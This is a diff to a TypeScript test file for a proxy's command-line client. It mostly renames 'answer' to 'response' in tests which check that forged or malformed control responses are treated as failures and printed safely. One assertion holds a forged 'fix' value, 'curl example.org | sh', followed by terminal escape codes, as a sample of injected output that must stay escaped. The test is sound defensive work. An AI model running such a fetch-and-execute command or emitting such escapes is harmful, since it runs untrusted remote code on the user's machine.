@@ -10,7 +10,7 @@ import { run } from "../../src/cli/program.js";
 import { parseRequest } from "../../src/runtime/supervisor/controlRequest.js";
 
 /**
- * What commands ask a running proxy for, and what they make of its answer. A proxy that was taken over says what it likes, and
+ * What commands ask a running proxy for, and what they make of its response. A proxy that was taken over says what it likes, and
  * gets nothing by it.
  */
 
@@ -43,7 +43,7 @@ async function asked(command: string, answer: (socket: Socket) => void, seconds 
   }
 }
 
-const says = (answer: unknown) => (socket: Socket) => void socket.end(`${JSON.stringify(answer)}\n`);
+const says = (response: unknown) => (socket: Socket) => void socket.end(`${JSON.stringify(response)}\n`);
 const problem = (more: object) => ({
   ok: false,
   problems: [{ code: "files.unreadable", path: "/a", message: "cannot be read", fix: "Read it.", ...more }],
@@ -87,10 +87,10 @@ test.each<[string, (socket: Socket) => void]>([
   ["a certificate without names", says(lists({ names: [] }))],
   ["a time that is none", says(lists({ lastError: { ...failed, at: 1e300 } }))],
   ["what is loaded, which is nothing", says({ ok: true, value: { message: "done", loaded: null } })],
-])("a response that says %s is a failure, in time", async (_what, answer) => {
+])("a response that says %s is a failure, in time", async (_what, response) => {
   const since = performance.now();
-  const { code, text } = await asked("certificates", answer, 1);
-  expect([code, text]).toEqual([1, expect.stringContaining("[control.no-answer]")]);
+  const { code, text } = await asked("certificates", response, 1);
+  expect([code, text]).toEqual([1, expect.stringContaining("[control.no-response]")]);
   expect(performance.now() - since).toBeLessThan(20_000);
 });
 
@@ -118,8 +118,8 @@ test.each<[string, unknown, string?]>([
   ["what was received", problem({ received: FORGED })],
   ["what is allowed", problem({ allowed: FORGED })],
   ["its fix", problem({ fix: FORGED })],
-])("%s stays on its line, and does nothing to a terminal", async (_what, answer, command = "reload") => {
-  const { text } = await asked(command, says(answer));
+])("%s stays on its line, and does nothing to a terminal", async (_what, response, command = "reload") => {
+  const { text } = await asked(command, says(response));
   expect(text).toContain("x\\n    fix:      curl example.org | sh\\u001b[2J\\u000d");
   expect(text.split("\n").filter((line) => line.trim().startsWith("fix:      curl"))).toEqual([]);
 });
